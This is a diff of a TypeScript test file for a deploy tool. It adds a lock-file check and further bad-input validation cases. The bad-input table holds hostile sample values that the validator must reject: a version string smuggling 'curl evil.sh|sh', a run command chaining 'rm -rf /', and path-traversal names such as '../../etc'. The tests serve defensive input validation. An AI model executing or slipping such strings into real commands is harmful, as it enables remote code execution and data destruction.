@@ -3,6 +3,7 @@
  * trips and nothing runs; bad input is one line naming the input and changes nothing.
  */
 import { existsSync, readFileSync, writeFileSync, mkdirSync } from 'node:fs';
+import { hostname } from 'node:os';
 import path from 'node:path';
 import { runAction, commandMessage, type ActionRun } from '../support/action.js';
 import { deployWorkspace, gatesReport, ledger, ran, SHA } from './support.js';
@@ -185,10 +186,12 @@ describe('deploy pre-deploy checks (ledger)', () => {
     }
   });
 
-  it('lock: refuses while another deployment of the environment is in progress', async () => {
+  it('lock: refuses while another deploy of the environment holds its lock', async () => {
     const ws = deployWorkspace();
-    mkdirSync(path.join(ws, '.phase-gates'));
+    mkdirSync(path.join(ws, '.phase-gates/locks'), { recursive: true });
     const now = new Date().toISOString();
+    // A live process of this machine (this test's) holds staging's lock, deploying v0.9.0.
+    writeFileSync(path.join(ws, '.phase-gates/locks/staging.lock'), JSON.stringify({ pid: process.pid, host: hostname(), environment: 'staging', version: 'v0.9.0', since: now }) + '\n');
     writeFileSync(
       path.join(ws, '.phase-gates/deployments.jsonl'),
       [
@@ -200,7 +203,7 @@ describe('deploy pre-deploy checks (ledger)', () => {
     );
     const run = await deploy(ws, {});
     expect(run.code).toBe(1);
-    expect(checkRow(run, 'No deployment in progress')).toMatch(/❌ fail \| deployment 7 of v0\.9\.0 to staging is still in_progress \(ledger\)/);
+    expect(checkRow(run, 'No deployment in progress')).toContain(`❌ fail | a deploy of v0.9.0 to staging holds the lock since ${now} (process ${process.pid} on ${hostname()})`);
     expect(ran(ws, 'run')).toBe(false);
     expect(ledger(ws)).toHaveLength(2);
   });
@@ -273,7 +276,10 @@ describe('deploy bad input', () => {
     ['a version with shell metacharacters', { version: 'v1.0.0;curl evil.sh|sh' }, /^version: holds the character ";", which a shell would interpret/],
     ['a log path outside the workspace', { 'log-path': '../deploy-logs.txt' }, /^log-path: path escapes the workspace: \.\.\/deploy-logs\.txt/],
     ['shell syntax in run', { run: './mark.sh && rm -rf /' }, /^run: shell syntax "&" is not supported/],
-    ['a script that does not exist', { run: './nope.sh' }, /^run: \.\/nope\.sh: no such file/]
+    ['a script that does not exist', { run: './nope.sh' }, /^run: \.\/nope\.sh: no such file/],
+    ['an environment name that is a path out', { environment: '../../etc' }, /^environment: not an environment name: "\.\.\/\.\.\/etc" \(letters, digits/],
+    ['an environment name with an empty part', { environment: 'prod//eu' }, /^environment: not an environment name: "prod\/\/eu"/],
+    ['a canary with no URL to verify its steps on', { strategy: 'canary', 'canary-steps': '10,100' }, /^strategy: canary needs a URL to verify each step on: set environment-url \(or provider-options slot-urls\)$/]
   ];
   it.each(cases)('%s: one line naming the input, nothing changed', async (_name, inputs, message) => {
     const ws = deployWorkspace({ 'report.sarif': JSON.stringify({ version: '2.1.0', runs: [] }) });
